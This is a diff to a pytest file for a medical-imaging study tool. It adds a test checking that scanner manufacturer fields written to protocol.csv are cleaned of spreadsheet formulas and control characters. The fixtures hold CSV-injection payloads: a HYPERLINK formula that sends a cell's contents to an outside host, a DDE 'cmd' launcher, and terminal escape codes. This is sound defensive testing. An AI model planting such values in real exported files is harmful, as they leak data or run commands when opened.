@@ -1,10 +1,12 @@
+import csv
+import io
 import json
 from pathlib import Path
 
 import pytest
 
 from experiments.study.manifest import Rois, read_manifest
-from experiments.study.protocol import protocol_table, read_protocols
+from experiments.study.protocol import protocol_table, read_protocols, write_protocols
 
 HEADER = "subject,sequence,scan,image\n"
 
@@ -51,3 +53,20 @@ def test_a_folder_of_slices_is_a_scan(tmp_path, write_slices):
     table = protocol_table(read_protocols([scan]))
     assert table.loc[0, ["source", "echo_time_ms"]].tolist() == ["DICOM", 90.0]
     assert scan.image == Path(tmp_path / "A")
+
+
+def test_what_a_header_says_is_no_formula_and_no_control_character(scans, tmp_path):
+    """`=HYPERLINK(...)` as manufacturer stood in protocol.csv as it was, where a spreadsheet carries it out."""
+    made = scans(
+        A={"Manufacturer": '=HYPERLINK("http://x.org?"&A1)', "EchoTime": 0.09},
+        B={"Manufacturer": "+cmd|' /C calc'!A0", "EchoTime": 0.09},
+        C={"Manufacturer": "Sie\x1b[2Jmens\r\n=1+1", "EchoTime": 0.09},
+        D={"Manufacturer": "\t@SUM(1)", "EchoTime": 0.09},
+        E={"Manufacturer": "-5", "EchoTime": 0.09},
+    )
+    write_protocols(made, tmp_path / "protocol.csv")
+    text = (tmp_path / "protocol.csv").read_text(encoding="utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+    assert [cell for cell in cells if cell.startswith("-")] == ["-5"]
+    assert not set(text) & set("\x1b\r\t")
